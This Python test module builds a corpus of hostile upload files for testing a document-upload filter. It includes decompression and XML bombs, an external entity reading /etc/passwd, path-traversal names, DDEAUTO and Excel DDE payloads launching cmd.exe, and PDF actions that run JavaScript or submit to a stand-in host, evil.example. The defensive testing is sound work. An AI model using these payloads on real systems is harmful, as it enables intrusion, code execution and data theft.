"""A corpus of hostile files, all made here: what is sent, under which name, and what may become of it.

``REFUSED`` files must be refused; ``TAKEN`` are pictures of which nothing but the picture may stay; ``EITHER`` files
are damaged by chance: what still reads as a document may be taken, but nothing may crash.
"""

import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Any

import pikepdf

from heli.papers.tests.samples import EXE, GIF_SCRIPT, HTML, OLE, PDF, TYPES, archive, docx, huge_png, ofd, picture

REFUSED, EITHER, TAKEN = "refused", "either", "taken"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI" + b"CAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    """One file of the corpus; ``virus`` says that only a virus scanner can know."""

    label: str
    name: str
    content: bytes
    expected: str = REFUSED
    virus: bool = False


def corpus() -> list[Sample]:
    """Return the whole corpus, the same bytes each time."""
    makers: list[Callable[[], Iterator[Sample]]] = [
        bombs, layouts, names, relations, fields, sheets, contents, pdfs, pictures, wrong_kinds, damaged, viruses
    ]  # fmt: skip
    return [sample for maker in makers for sample in maker()]


def _document(label: str, parts: dict[str, bytes], expected: str = REFUSED) -> Sample:
    return Sample(f"docx: {label}", "letter.docx", docx(parts), expected)


def bombs() -> Iterator[Sample]:
    """Archives that unpack to far more than they are."""
    for megabytes in (2, 20):
        yield _document(f"{megabytes} MB of zeros", {"word/bomb.xml": bytes(megabytes << 20)})
    yield _document("forty parts of 6 MB", {f"word/{n}.bin": bytes(6 << 20) for n in range(40)})
    yield _document("2,500 parts", {f"word/{n}.xml": b"<a/>" for n in range(2_500)})
    inner = docx({"word/bomb.xml": bytes(4 << 20)})
    yield _document("a bomb inside", {"word/embeddings/a.docx": inner})
    deep = docx()
    for _level in range(3):
        deep = docx({"word/embeddings/a.docx": deep})
    yield _document("archives four deep", {"word/embeddings/a.docx": deep})
    yield _document("a plain archive inside", {"word/a.bin": archive({"a.txt": b"a"})})
    yield Sample("docx: parts that overlap", "letter.docx", overlapping())
    yield Sample("docx: sizes that lie", "letter.docx", with_false_size())
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><a>&b;</a>'
    yield _document("entities", {"word/a.xml": entity})
    outside = b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
    yield _document("an outside entity", {"word/a.xml": outside})
    yield _document("a document type elsewhere", {"word/a.xml": b'<!DOCTYPE a SYSTEM "http://evil.example/"><a/>'})
    yield _document("XML 5,000 deep", {"word/a.xml": b"<a>" * 5_000 + b"</a>" * 5_000})
    yield _document("entities in UTF-16", {"word/a.xml": entity.decode().replace("1.0", "1.0").encode("utf-16")})


def overlapping() -> bytes:
    """Return an archive in which two names share one part's bytes."""
    content = docx({"word/a.bin": random.Random(1).randbytes(4_000), "word/b.bin": random.Random(1).randbytes(4_000)})
    with zipfile.ZipFile(BytesIO(content)) as opened:
        first, second = opened.getinfo("word/a.bin").header_offset, opened.getinfo("word/b.bin").header_offset
    return content.replace(struct.pack("<L", second) + b"word/b.bin", struct.pack("<L", first) + b"word/b.bin")


def with_false_size() -> bytes:
    """Return an archive whose list says that a part is small."""
    content = docx({"word/a.bin": bytes(50_000)})
    return content.replace(struct.pack("<L", 50_000), struct.pack("<L", 50))


def layouts() -> Iterator[Sample]:
    """Archives that are not quite what they seem."""
    whole = docx()
    yield Sample("docx: with a program in front", "letter.docx", b"PK\x03\x04" + EXE + whole)
    yield Sample("docx: with a comment", "letter.docx", _commented(whole))
    yield Sample("docx: with the same name twice", "letter.docx", _twice())
    yield Sample("docx: wrong checksum", "letter.docx", _wrong_sum())
    yield Sample("docx: only the list", "letter.docx", whole[whole.index(b"PK\x01\x02") :])
    yield Sample("docx: cut in the middle", "letter.docx", whole[: len(whole) // 2])
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        parts = {TYPES: b"<Types/>", "word/document.xml": b"<a/>"}
        yield Sample(f"docx: packed by method {method}", "letter.docx", archive(parts, compression=method))
    yield Sample("docx: encrypted", "letter.docx", _flagged(whole))
    yield Sample("docx: a symbolic link", "letter.docx", _special(0o120777))
    yield Sample("docx: a device", "letter.docx", _special(0o020666))
    yield Sample("docx: a pipe", "letter.docx", _special(0o010666))


def _commented(content: bytes) -> bytes:
    return content[:-2] + struct.pack("<H", 5) + b"hello"


def _twice() -> bytes:
    into = BytesIO()
    with zipfile.ZipFile(into, "w") as made:
        for name in (TYPES, "word/document.xml", "word/a.xml", "WORD/A.XML"):
            made.writestr(name, b"<Types/>")
    return into.getvalue()


def _wrong_sum() -> bytes:
    content = docx({"word/a.bin": b"abc"})
    return content.replace(struct.pack("<L", zlib.crc32(b"abc")), struct.pack("<L", 1))


def _flagged(content: bytes) -> bytes:
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def _special(mode: int) -> bytes:
    into = BytesIO()
    with zipfile.ZipFile(into, "w") as made:
        made.writestr(TYPES, b"<Types/>")
        made.writestr("word/document.xml", b"<a/>")
        part = zipfile.ZipInfo("word/link")
        part.create_system, part.external_attr = 3, mode << 16
        made.writestr(part, b"/etc/passwd")
    return into.getvalue()


def names() -> Iterator[Sample]:
    """Parts whose names lead elsewhere or say what they are."""
    leading = ["../a.xml", "word/../../a.xml", "/etc/passwd", "C:\\a.xml", "\\\\host\\share\\a.xml", "..\\a.xml"]
    programs = ["a.exe", "a.js", "a.vbs", "a.hta", "a.html", "a.svg", "a.lnk", "a.jar", "a.bat", "a.ps1", "a.SCR"]
    macros = ["word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml"]
    for name in [*leading, *(f"word/{each}" for each in programs), *macros]:
        yield _document(f"part {name}", {name: b"<a/>"})


def _relation(kind: str, target: str, mode: str = "External") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return (
        f'<Relationships><Relationship Id="r" Type="{base}{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    ).encode()


def relations() -> Iterator[Sample]:
    """What a reader would load or run when it opens the document."""
    place = "word/_rels/document.xml.rels"
    for kind in ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "aFChunk", "externalLinkPath"):
        yield _document(f"{kind} from elsewhere", {place: _relation(kind, "http://evil.example/a")})
    for target in ("file:///c:/a", "\\\\evil.example\\a", "javascript:alert(1)", "ms-msdt:/id", "mhtml:http://e/!x"):
        yield _document(f"link to {target}", {place: _relation("hyperlink", target)})
    for kind in ("oleObject", "aFChunk", "control", "vbaProject"):
        yield _document(f"{kind} inside", {place: _relation(kind, "a.bin", "Internal")})
    hidden = _relation("attachedTemplate", "http://evil.example/a").decode().replace("Relationships", "x:R")
    spelled = hidden.replace("<x:R>", '<x:R xmlns:x="urn:x">').replace("External", "&#69;xternal")
    yield _document("template, spelled with references", {place: spelled.encode()})
    utf16 = _relation("attachedTemplate", "http://evil.example/a").decode().encode("utf-16")
    yield _document("template in UTF-16", {place: utf16})


def fields() -> Iterator[Sample]:
    """Fields that start a program or load something."""

    def text(*runs: str) -> bytes:
        inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        return f'<w:document xmlns:w="urn:w">{inner}</w:document>'.encode()

    said = {
        "DDE": ("DDE cmd a",),
        "DDEAUTO": (' DDEAUTO c:\\\\cmd.exe "/k calc" ',),
        "DDEAUTO in pieces": ("DD", "EAU", "TO cmd"),
        "numbers for letters": ("QUOTE 68 68 69 65 85",),
        "a picture from elsewhere": ('INCLUDEPICTURE "http://evil.example/a.png"',),
        "a text from elsewhere": ('INCLUDETEXT "\\\\evil.example\\a"',),
    }
    for label, runs in said.items():
        yield _document(f"field: {label}", {"word/footer1.xml": text(*runs)})
    simple = b'<w:document xmlns:w="urn:w"><w:fldSimple w:instr="DDEAUTO cmd"/></w:document>'
    yield _document("simple field: DDEAUTO", {"word/header1.xml": simple})


def _workbook(sheet: bytes, more: dict[str, bytes] | None = None) -> bytes:
    parts = {TYPES: b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet}
    return archive({**parts, **(more or {})})


def sheets() -> Iterator[Sample]:
    """Sheets that are larger than they look, load or run something."""
    huge = b'<worksheet><dimension ref="A1:XFD1048576"/></worksheet>'
    yield Sample("xlsx: 17 billion cells", "a.xlsx", _workbook(huge))
    merged = b'<worksheet><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    yield Sample("xlsx: one cell of 17 billion", "a.xlsx", _workbook(merged))
    yield Sample("xlsx: one string 9,000 times", "a.xlsx", shared_string_bomb())
    for formula in ("cmd|'/C calc'!A0", 'WEBSERVICE("http://e.example")', "'\\\\e.example\\[a]b'!A1", 'RTD("a",,"b")'):
        sheet = f"<worksheet><c><f>{formula.replace('<', '&lt;')}</f></c></worksheet>"
        yield Sample(f"xlsx: {formula[:20]}", "a.xlsx", _workbook(sheet.encode()))
    link = {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    yield Sample("xlsx: link to another book", "a.xlsx", _workbook(b"<worksheet/>", link))
    dde = {"xl/links.xml": b'<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>'}
    yield Sample("xlsx: ddeLink", "a.xlsx", _workbook(b"<worksheet/>", dde))
    types = {TYPES: b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'}
    yield Sample("xlsm as xlsx", "a.xlsx", _workbook(b"<worksheet/>", types))
    yield Sample("ofd: script", "a.ofd", archive({"OFD.xml": b"<OFD><Script/></OFD>"}))
    yield Sample("ofd: path out", "a.ofd", archive({"OFD.xml": b"<OFD/>", "../a": b"a"}))


def shared_string_bomb() -> bytes:
    """Return a workbook of a few kilobytes that shows 270 MB of text."""
    noise = random.Random(2).randbytes(15_000).hex()
    strings = f"<sst><si><t>{noise}</t></si></sst>"
    sheet = "<worksheet>" + '<c t="s"><v>0</v></c>' * 9_000 + "</worksheet>"
    stored = BytesIO()
    with zipfile.ZipFile(stored, "w") as made:
        made.writestr(TYPES, b"<Types/>")
        made.writestr("xl/workbook.xml", b"<workbook/>")
        made.writestr("xl/sharedStrings.xml", strings.encode())
        made.writestr("xl/worksheets/sheet1.xml", sheet.encode())
    return stored.getvalue()


def contents() -> Iterator[Sample]:
    """Other files inside a document, under harmless names."""
    inside = {
        "a program": EXE,
        "an old Office file": OLE,
        "a PDF": PDF,
        "an ELF": b"\x7fELF" + bytes(90),
        "rar": b"Rar!",
    }
    for label, content in inside.items():
        yield _document(f"{label} as a picture", {"word/media/image1.png": content})
    yield _document("broken XML", {"word/a.xml": b"<a><b></a>"})


def _pdf(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    into = BytesIO()
    document.save(into, deterministic_id="encryption" not in options, **options)
    return into.getvalue()


def _action(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(entries))

    return change


def pdfs() -> Iterator[Sample]:
    """PDFs that run, start, send or carry something, plainly and packed away."""
    name = pikepdf.Name
    actions: dict[str, dict[str, Any]] = {
        "script": {"/S": name.JavaScript, "/JS": "app.alert(1)"},
        "program": {"/S": name.Launch, "/F": "cmd.exe"},
        "sending": {"/S": name.SubmitForm, "/F": "http://evil.example"},
        "importing": {"/S": name.ImportData, "/F": "a.fdf"},
        "another file": {"/S": name.GoToR, "/F": "\\\\evil.example\\a"},
        "an embedded file": {"/S": name.GoToE, "/T": pikepdf.Dictionary()},
        "a script address": {"/S": name.URI, "/URI": "javascript:alert(1)"},
        "a file address": {"/S": name.URI, "/URI": "file:///etc/passwd"},
        "a rendition": {"/S": name.Rendition},
    }
    packed: dict[str, Any] = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    for label, entries in actions.items():
        for way, options in zip(("", ", packed"), ({}, packed), strict=True):
            yield Sample(f"pdf: {label}{way}", "a.pdf", _pdf(_action(**entries), **options))
    plain: dict[str, Any] = {"/S": name.JavaScript, "/JS": "app.alert(1)"}
    spelled = _pdf(_action(**plain)).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4AS")
    yield Sample("pdf: script, spelled in numbers", "a.pdf", spelled)
    locked: dict[str, Any] = {"encryption": pikepdf.Encryption(owner="o", user="", R=6)}
    yield Sample("pdf: script, under an owner's password", "a.pdf", _pdf(_action(**plain), **locked))
    yield Sample("pdf: password", "a.pdf", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u")))
    yield Sample("pdf: attachment", "a.pdf", _pdf(_attach))
    yield Sample("pdf: form of XML", "a.pdf", _pdf(_forms))
    yield Sample("pdf: stream from elsewhere", "a.pdf", _pdf(_stream_elsewhere))
    yield Sample("pdf: archive behind", "a.pdf", PDF + archive({"a.exe": EXE}))
    yield Sample("pdf: archive in a comment", "a.pdf", PDF[:-6] + b"%" + archive({"a": b"b"}) + b"\n%%EOF\n")
    yield Sample("pdf: 5 kB behind", "a.pdf", PDF + bytes(5_000))
    yield Sample(
        "pdf: nested 20,000 deep", "a.pdf", PDF.replace(b"/Type/Catalog", b"/A " + b"[" * 20_000 + b"]" * 20_000)
    )
    yield Sample("pdf: only the mark", "a.pdf", b"%PDF-1.7\n%%EOF\n")
    yield Sample("pdf: page tree that bites its tail", "a.pdf", PDF.replace(b"Kids[3 0 R]", b"Kids[2 0 R]"))


def _attach(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = EXE


def _forms(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array(["a", document.make_stream(b"<xdp/>")]))


def _stream_elsewhere(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = pikepdf.String("http://evil.example/a")
    document.Root.Extra = stream


def pictures() -> Iterator[Sample]:
    """Pictures of impossible sizes, and pictures that are something else as well."""
    for width, height in ((50_000, 50_000), (2**31 - 1, 1), (1, 2**31 - 1), (0, 0), (8_000, 5_001), (60_000, 60_000)):
        yield Sample(f"png: {width} x {height}", "a.png", huge_png(width, height))
    gif = bytearray(picture("GIF"))
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield Sample("gif: 65,535 x 65,535", "a.gif", bytes(gif))
    for label, content in {
        "gif and script": GIF_SCRIPT,
        "jpeg and archive": picture() + archive({"a.exe": EXE}),
        "png and page": picture("PNG") + HTML,
        "jpeg and pdf": picture() + PDF,
        "webp and page": picture("WEBP") + HTML,
        "gif and jar": picture("GIF") + archive({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe"}),
    }.items():
        yield Sample(f"polyglot: {label}", "a.jpg", content, TAKEN)


def wrong_kinds() -> Iterator[Sample]:
    """What is not taken at all, under honest and dishonest names."""
    kinds: dict[str, bytes] = {
        "tif": picture("TIFF"), "bmp": picture("BMP"), "ico": picture("ICO"), "avif": picture("AVIF"),
        "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1" + bytes(64), "exe": EXE, "doc": OLE,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "html": HTML, "empty": b"",
        "zip": archive({"a.txt": b"a"}), "gz": b"\x1f\x8b\x08\x00" + bytes(90),
        "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(64),
        "js": b"alert(1)", "xml": b"<?xml version='1.0'?><a/>", "eps": b"%!PS-Adobe-3.0\n", "rtf": b"{\\rtf1\\object}",
        "mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n", "url": b"[InternetShortcut]\nURL=http://e.example\n",
    }  # fmt: skip
    for kind, content in kinds.items():
        yield Sample(f"{kind} under its own name", f"a.{kind}", content)
        yield Sample(f"{kind} as a photo", "a.jpg", content)
        yield Sample(f"{kind} as a letter", "a.docx", content)
    for name in (
        "",
        ".",
        "..",
        "a\0.jpg",
        "a.jpg\0.exe",
        "\u202egpj.exe",
        "CON",
        "a" * 4_000 + ".jpg",
        "../../etc/cron.d/a",
    ):
        yield Sample(f"nothing named {name[:20]!r}", name, b"")
        yield Sample(f"photo named {name[:20]!r}", name, picture(), TAKEN)


def damaged() -> Iterator[Sample]:
    """Files with bits turned over and ends cut off, by a fixed seed."""
    chance = random.Random(20)
    whole = {
        "jpg": picture(size=(300, 200)), "png": picture("PNG", size=(300, 200)), "gif": picture("GIF"),
        "webp": picture("WEBP", size=(300, 200)), "docx": docx({"word/a.bin": bytes(range(256)) * 4}),
        "ofd": ofd(), "pdf": _pdf(lambda document: None),
    }  # fmt: skip
    for kind, content in whole.items():
        for turn in range(5):
            changed = bytearray(content)
            for _bit in range(turn + 1):
                changed[chance.randrange(4, len(changed))] ^= 1 << chance.randrange(8)
            yield Sample(f"{kind}, bits turned {turn + 1}", f"a.{kind}", bytes(changed), EITHER)
        for share in (0.3, 0.9):
            yield Sample(f"{kind}, {share:.0%} of it", f"a.{kind}", content[: int(len(content) * share)], EITHER)


def viruses() -> Iterator[Sample]:
    """The harmless file that virus scanners agree to find, plain and inside documents."""
    yield Sample("virus: as text", "a.txt", EICAR, virus=True)
    stored = {TYPES: b"<Types/>", "word/document.xml": b"<a/>", "word/a.bin": EICAR}
    yield Sample("virus: in a docx", "a.docx", archive(stored, compression=zipfile.ZIP_STORED), virus=True)
    yield Sample("virus: in a PDF", "a.pdf", PDF[:-6] + b"%" + EICAR + b"\n%%EOF\n", virus=True)
